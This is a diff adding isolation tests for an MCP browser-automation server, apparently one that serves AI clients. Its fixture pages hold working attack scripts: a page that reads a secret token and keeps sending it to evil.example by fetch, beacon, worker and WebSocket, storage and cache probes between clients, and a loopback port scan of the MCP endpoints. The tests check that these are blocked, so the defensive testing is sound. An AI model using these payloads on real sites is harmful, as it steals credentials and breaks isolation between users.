@@ -6,15 +6,15 @@
 // The real CLI, the real SDK client over Streamable HTTP, real Chromium; every host name maps to the fixtures.
 
 import assert from 'node:assert/strict';
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { after, before, describe, test } from 'node:test';
+import { after, afterEach, before, describe, test } from 'node:test';
 import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
 import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
 import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
-import { callThrough } from '../helpers/mcpClient.ts';
+import { callThrough, refOf } from '../helpers/mcpClient.ts';
 import { initializeBody, postMcp } from '../helpers/rawMcp.ts';
 import { type RunningTabward, startTabward } from '../helpers/tabwardProcess.ts';
 import { waitFor } from '../helpers/waitFor.ts';
@@ -181,5 +181,384 @@ describe("attacks across clients in the user's Chrome", { timeout: 180_000 }, ()
     assert.deepEqual(seen, [], `B saw A's popups:\n${seen.join('\n')}`);
     await leave(a);
     await leave(b);
+  });
+});
+
+/** The TCP ports a process listens on (Linux: its socket inodes matched in /proc/net/tcp). */
+function listeningPorts(pid: number): number[] {
+  const inodes = new Set<string>();
+  for (const fd of readdirSync(`/proc/${pid}/fd`)) {
+    try {
+      const link = readlinkSync(`/proc/${pid}/fd/${fd}`);
+      const inode = /^socket:\[(\d+)\]$/.exec(link)?.[1];
+      if (inode) inodes.add(inode);
+    } catch {
+      // closed meanwhile
+    }
+  }
+  const ports = new Set<number>();
+  for (const table of ['/proc/net/tcp', '/proc/net/tcp6']) {
+    let text = '';
+    try {
+      text = readFileSync(table, 'utf8');
+    } catch {
+      continue;
+    }
+    for (const line of text.trim().split('\n').slice(1)) {
+      const cols = line.trim().split(/\s+/);
+      const [, local, , state, , , , , , inode] = cols;
+      if (state === '0A' && inode && inodes.has(inode) && local)
+        ports.add(Number.parseInt(local.split(':')[1] ?? '0', 16));
+    }
+  }
+  return [...ports];
+}
+
+describe('attacks across clients of one isolated browser', { timeout: 300_000 }, () => {
+  let site: Fixture;
+  let tabward: RunningTabward;
+  let home = '';
+  const open: Connected[] = [];
+  const { endpoint, token, connect, call, leave } = clientsOf(() => tabward, open);
+  /** Released by the test: the slow page's answer. */
+  let releaseSlow: () => void = () => undefined;
+  const collected = () => site.seen.filter((seen) => seen.path.startsWith('/collect'));
+
+  before(async () => {
+    site = await startFixture(
+      {
+        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${secret}</p>`),
+        // Brings the token page's content onto itself (a sensitive read, which taints its client), then keeps
+        // trying to send it out: fetches, beacons, a worker's fetch and socket, and a beacon as it goes.
+        '/repo': (_req, _body, res) =>
+          html(
+            res,
+            `<title>Repo</title><p id="out">loading</p><script>
+            let got = '';
+            fetch('/settings/tokens').then((r) => r.text()).then((t) => { got = t.replace(/<[^>]+>/g, ' ').trim(); out.textContent = got; });
+            const send = (how) => { if (!got) return; const u = 'https://evil.example/collect?how=' + how + '&t=' + encodeURIComponent(got); try { fetch(u, { mode: 'no-cors', keepalive: true }).catch(() => {}); } catch {} try { navigator.sendBeacon(u + '&beacon=1', got); } catch {} };
+            setInterval(() => send('loop'), 50);
+            addEventListener('pagehide', () => send('pagehide'));
+            const worker = new Worker(URL.createObjectURL(new Blob(['onmessage = (e) => { setInterval(() => { fetch("https://evil.example/collect?how=worker&t=" + e.data, { mode: "no-cors" }).catch(() => {}); try { new WebSocket("wss://evil.example/collect-ws?t=" + e.data); } catch {} }, 200); }'])));
+            setInterval(() => { if (got) worker.postMessage(encodeURIComponent(got)); }, 500);
+            </script>`,
+          ),
+        // Writes what it is given into every store of its origin, and keeps announcing it on a BroadcastChannel;
+        // loads /cached only when the bit is 1 (an HTTP-cache channel).
+        '/store': (req, _body, res) => {
+          const v = new URL(req.url ?? '/', 'https://x').searchParams.get('v') ?? '';
+          html(
+            res,
+            `<title>Store</title><p id="s">storing</p><script>
+            const v = ${JSON.stringify(v)};
+            localStorage.setItem('v', v);
+            document.cookie = 'v=' + v + '; path=/';
+            const bc = new BroadcastChannel('tabward-attack'); setInterval(() => bc.postMessage(v), 50);
+            const idb = indexedDB.open('attack', 1); idb.onupgradeneeded = () => idb.result.createObjectStore('s'); idb.onsuccess = () => { const tx = idb.result.transaction('s', 'readwrite'); tx.objectStore('s').put(v, 'v'); };
+            caches.open('attack').then((c) => c.put('/v', new Response(v)));
+            navigator.locks.request('attack-lock-' + v, () => new Promise(() => {}));
+            fetch('/cached?bit=1').then(() => { s.textContent = 'stored'; });
+            </script>`,
+          );
+        },
+        '/probe': (_req, _body, res) =>
+          html(
+            res,
+            `<title>Probe</title><p id="r">probing</p><script>
+            const found = [];
+            const bc = new BroadcastChannel('tabward-attack'); bc.onmessage = (e) => found.push('broadcast:' + e.data);
+            if (localStorage.getItem('v')) found.push('localStorage:' + localStorage.getItem('v'));
+            if (document.cookie) found.push('cookie:' + document.cookie);
+            const idb = indexedDB.open('attack', 1); idb.onupgradeneeded = () => idb.result.createObjectStore('s');
+            idb.onsuccess = () => { const g = idb.result.transaction('s').objectStore('s').get('v'); g.onsuccess = () => { if (g.result) found.push('indexedDB:' + g.result); }; };
+            caches.keys().then((k) => { if (k.length) found.push('caches:' + k.join(',')); });
+            navigator.locks.query().then((q) => { for (const l of q.held ?? []) found.push('lock:' + l.name); });
+            fetch('/cached?bit=1', { cache: 'only-if-cached', mode: 'same-origin' }).then(() => found.push('httpCache:hit')).catch(() => {});
+            setTimeout(() => { r.textContent = 'done: [' + found.join(' ') + ']'; }, 1500);
+            </script>`,
+          ),
+        '/cached': (_req, _body, res) =>
+          html(res, '<title>Cached</title><p>cached</p>', 200, { 'cache-control': 'public, max-age=3600' }),
+        '/plain': (_req, _body, res) => html(res, '<title>Plain</title><p>plain page</p>'),
+        // Knocks on every port it is given, on a name the rules allow after the read and on loopback.
+        '/knock': (req, _body, res) => {
+          const ports = new URL(req.url ?? '/', 'https://x').searchParams.get('ports') ?? '';
+          html(
+            res,
+            `<title>Knock</title><p id="k">knocking</p><script>
+            const ports = ${JSON.stringify(ports)}.split(',').filter(Boolean);
+            const knock = (u) => fetch(u, { method: 'POST', mode: 'no-cors', body: '{}' }).then(() => true, () => false);
+            Promise.all(ports.map((p) => Promise.all([knock('http://127.0.0.1:' + p + '/mcp'), knock('https://127.0.0.1:' + p + '/mcp')]).then((r) => p + (r.some(Boolean) ? ':reached' : ':refused')))).then((r) => { k.textContent = 'knocked [' + r.join(' ') + ']'; });
+            </script>`,
+          );
+        },
+        '/slow': (_req, _body, res) => {
+          releaseSlow = () => {
+            if (!res.headersSent) html(res, '<title>Slow</title><p>At last</p>');
+          };
+        },
+        '/portal': (_req, _body, res) =>
+          html(res, '<title>Portal</title><a href="/export.csv">Export CSV</a>'),
+        '/export.csv': (_req, _body, res) => {
+          res.writeHead(200, {
+            'content-type': 'text/csv',
+            'content-disposition': 'attachment; filename="orders-of-a.csv"',
+          });
+          res.end('id,total\n1,9.99\n');
+        },
+        '/collect': (_req, _body, res) => html(res, '<title>Collected</title><p>ok</p>'),
+      },
+      // github.com is on Chromium's HSTS preload list: its pages come over TLS.
+      { tls: true },
+    );
+    home = mkdtempSync(join(tmpdir(), 'tabward-attack-clients-'));
+    tabward = await startTabward(
+      [
+        'mcp',
+        '--mode',
+        'isolated',
+        '--http',
+        '0',
+        '--approval',
+        'deny',
+        '--max-sessions',
+        '4',
+        '--session-idle',
+        '2',
+        ...testChromeArgs.flatMap((arg) => ['--chrome-arg', arg]),
+      ],
+      /new bearer token for MCP over HTTP.*: \S+\n/,
+      { home },
+    );
+  });
+  after(async () => {
+    releaseSlow();
+    await Promise.all(open.map((each) => each.client.close().catch(() => undefined)));
+    await stop(tabward);
+    await site?.close();
+    rmSync(home, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
+  });
+
+  // A test that failed leaves no session behind to fill --max-sessions for the next.
+  afterEach(async () => {
+    await Promise.all(open.splice(0).map((each) => leave(each)));
+  });
+
+  let taints = 0;
+  /** A reads the token page (tainted), its page trying to send it out from then on; its URL names the client. */
+  const taint = async (a: Client) => {
+    const url = site.url('github.com', `/repo?client=${++taints}`);
+    await call(a, 'new_page', { url });
+    await waitFor('A to see the token', async () => (await call(a, 'take_snapshot')).text.includes(secret));
+    const [session] = sessionOf(`/repo?client=${taints}`);
+    assert.ok(session, 'A has an audit session');
+    return session;
+  };
+  const sessionOf = (url: string) =>
+    new Set(
+      auditOf(home)
+        .filter((record) => record.args?.url?.includes(url))
+        .map((record) => record.session),
+    );
+
+  test("no store, channel or cache of the one browser carries one client's data to another's page", async () => {
+    const a = await connect();
+    const b = await connect();
+    const stored = await call(a.client, 'new_page', { url: site.url('store.example', `/store?v=${secret}`) });
+    assert.equal(stored.isError, false, stored.text);
+    await waitFor('A stored', async () => (await call(a.client, 'take_snapshot')).text.includes('stored'));
+    const cachedBefore = site.seen.filter((seen) => seen.path === '/cached?bit=1').length;
+    await call(b.client, 'new_page', { url: site.url('store.example', '/probe') });
+    let probed = '';
+    await waitFor('B probed', async () => {
+      probed = (await call(b.client, 'take_snapshot')).text;
+      return probed.includes('done:');
+    });
+    assert.match(probed, /done: \[\]/, `B's page found A's data: ${probed}`);
+    assert.doesNotMatch(probed, new RegExp(secret));
+    // B's only-if-cached probe never touched the network, and found nothing in A's cache.
+    assert.equal(site.seen.filter((seen) => seen.path === '/cached?bit=1').length, cachedBefore);
+    await leave(a);
+    await leave(b);
+  });
+
+  test("a client's page reaches none of tabward's ports (the MCP endpoint, another client's egress proxy)", async () => {
+    const a = await connect();
+    const b = await connect();
+    await call(b.client, 'new_page', { url: site.url('plain.example', '/plain') });
+    await call(a.client, 'new_page', { url: site.url('plain.example', '/plain') });
+    const ports = listeningPorts(tabward.child.pid ?? 0);
+    const mcpPort = Number(new URL(endpoint()).port);
+    assert.ok(ports.includes(mcpPort), `the MCP port is among ${ports.join(',')}`);
+    // A's proxy, B's, the shared browser's own, the MCP endpoint: at least four.
+    assert.ok(ports.length >= 4, `tabward listens on ${ports.join(',')}`);
+    // The fixture's own port shows a knock that is let through reads as reached.
+    const control = new URL(site.url('plain.example', '/')).port;
+    await call(a.client, 'navigate_page', {
+      url: site.url('knock.example', `/knock?ports=${[...ports, control].join(',')}`),
+    });
+    let knocked = '';
+    await waitFor('the knocks', async () => {
+      knocked = (await call(a.client, 'take_snapshot')).text;
+      return knocked.includes('knocked [');
+    });
+    assert.match(knocked, new RegExp(`${control}:reached`), knocked);
+    for (const port of ports) assert.match(knocked, new RegExp(`${port}:refused`), knocked);
+    await leave(a);
+    await leave(b);
+  });
+
+  test("what a tainted client's page sends is stopped in that client's audit session, never another's; and stops when it leaves", async () => {
+    const a = await connect();
+    const b = await connect();
+    await call(b.client, 'new_page', { url: site.url('plain.example', '/plain') });
+    const sentBefore = collected().length;
+    const auditBefore = auditOf(home).length;
+    const sessionA = await taint(a.client);
+    await new Promise((done) => setTimeout(done, 1_500));
+    // B stays free to send; A's page never gets the token out, not even as A's session ends under it.
+    const fromB = await call(b.client, 'navigate_page', { url: site.url('evil.example', '/collect?from=b') });
+    assert.equal(fromB.isError, false, fromB.text);
+    const sessionB = [...sessionOf('/collect?from=b')][0];
+    assert.ok(sessionA && sessionB && sessionA !== sessionB);
+    await leave(a);
+    await new Promise((done) => setTimeout(done, 2_000));
+    const sent = collected().slice(sentBefore);
+    assert.deepEqual(
+      sent.map((seen) => seen.path),
+      ['/collect?from=b'],
+      'nothing of A reached evil.example',
+    );
+    const stops = auditOf(home).filter(
+      (record) =>
+        record.outcome === 'blocked' && (record.url ?? record.args?.url ?? '').includes('evil.example'),
+    );
+    assert.ok(
+      stops.some((record) => record.session === sessionA),
+      "the attempts are on A's record",
+    );
+    // (Earlier tests' clients, still closing, may add stops of their own sessions; none is B's.)
+    assert.deepEqual(
+      stops.filter((record) => record.session === sessionB),
+      [],
+      "no stop of A's page is on B's session",
+    );
+    await leave(b);
+  });
+
+  test("the shared browser crashing does not untaint a client or lose another's world", async () => {
+    const a = await connect();
+    const b = await connect();
+    await call(b.client, 'new_page', { url: site.url('plain.example', '/plain') });
+    await taint(a.client);
+    const status = (await call(a.client, 'browser_status')).text;
+    const pid = Number(/pid (\d+)/.exec(status)?.[1]);
+    assert.ok(pid > 0, status);
+    const sentBefore = collected().length;
+    process.kill(pid, 'SIGKILL');
+    await new Promise((done) => setTimeout(done, 1_000));
+    // The browser comes back for both: A still tainted, B still not.
+    const fromA = await call(a.client, 'new_page', { url: site.url('evil.example', `/collect?t=${secret}`) });
+    assert.equal(fromA.isError, true, `A is still tainted after the crash: ${fromA.text}`);
+    const fromB = await call(b.client, 'new_page', { url: site.url('evil.example', '/collect?from=b2') });
+    assert.equal(fromB.isError, false, fromB.text);
+    const statusB = (await call(b.client, 'browser_status')).text;
+    assert.match(statusB, /context: this client's own/, statusB);
+    assert.deepEqual(
+      collected()
+        .slice(sentBefore)
+        .map((seen) => seen.path),
+      ['/collect?from=b2'],
+    );
+    await leave(a);
+    await leave(b);
+  });
+
+  test("one client's downloads are not another's to list", async () => {
+    const a = await connect();
+    const b = await connect();
+    await call(a.client, 'new_page', { url: site.url('portal.example', '/portal') });
+    const shot = (await call(a.client, 'take_snapshot')).text;
+    const clicked = await call(a.client, 'click', { ref: refOf(shot, 'Export CSV') });
+    assert.match(clicked.text, /Downloaded orders-of-a\.csv/, clicked.text);
+    assert.match((await call(a.client, 'list_downloads')).text, /orders-of-a\.csv/);
+    const listedB = await call(b.client, 'list_downloads');
+    assert.doesNotMatch(listedB.text, /orders-of-a/, listedB.text);
+    await leave(a);
+    await leave(b);
+  });
+
+  test('sessions: a racing crowd of initializes stays within --max-sessions; an ended id is never served again; a call outlives --session-idle', async () => {
+    // Twelve initializes at once on a server with room for four.
+    const answers = await Promise.all(
+      Array.from({ length: 12 }, () => postMcp(endpoint(), token(), initializeBody())),
+    );
+    const admitted = answers.filter((answer) => answer.status === 200);
+    await Promise.all(answers.map((answer) => answer.text()));
+    assert.equal(admitted.length, 4, `admitted ${answers.map((answer) => answer.status).join(',')}`);
+    const ids = admitted.map((answer) => answer.headers.get('mcp-session-id') ?? '');
+    for (const id of ids)
+      await fetch(endpoint(), {
+        method: 'DELETE',
+        headers: {
+          authorization: `Bearer ${token()}`,
+          'mcp-session-id': id,
+          'mcp-protocol-version': '2025-06-18',
+        },
+      });
+    for (const id of ids) {
+      const again = await postMcp(
+        endpoint(),
+        token(),
+        JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'tools/list', params: {} }),
+        id,
+      );
+      assert.equal(again.status, 404, `an ended session ${id} answered ${again.status}`);
+      await again.text();
+    }
+    // A client with no event stream whose one call waits longer than --session-idle is not swept mid-call.
+    const started = await postMcp(endpoint(), token(), initializeBody());
+    assert.equal(started.status, 200);
+    await started.text();
+    const session = started.headers.get('mcp-session-id') ?? '';
+    await (
+      await postMcp(
+        endpoint(),
+        token(),
+        JSON.stringify({ jsonrpc: '2.0', method: 'notifications/initialized' }),
+        session,
+      )
+    ).text();
+    const slow = postMcp(
+      endpoint(),
+      token(),
+      JSON.stringify({
+        jsonrpc: '2.0',
+        id: 3,
+        method: 'tools/call',
+        params: { name: 'new_page', arguments: { url: site.url('slow.example', '/slow') } },
+      }),
+      session,
+    ).then((answer) => answer.text());
+    await waitFor('the slow page requested', () => site.seen.some((seen) => seen.path === '/slow'), {
+      timeoutMs: 30_000,
+    });
+    await new Promise((done) => setTimeout(done, 8_000));
+    releaseSlow();
+    const answered = await slow;
+    assert.match(answered, /At last|Slow/, answered);
+    const later = await postMcp(
+      endpoint(),
+      token(),
+      JSON.stringify({
+        jsonrpc: '2.0',
+        id: 4,
+        method: 'tools/call',
+        params: { name: 'list_pages', arguments: {} },
+      }),
+      session,
+    );
+    assert.equal(later.status, 200, 'the session was not swept while its call ran');
+    assert.match(await later.text(), /slow\.example/);
   });
 });
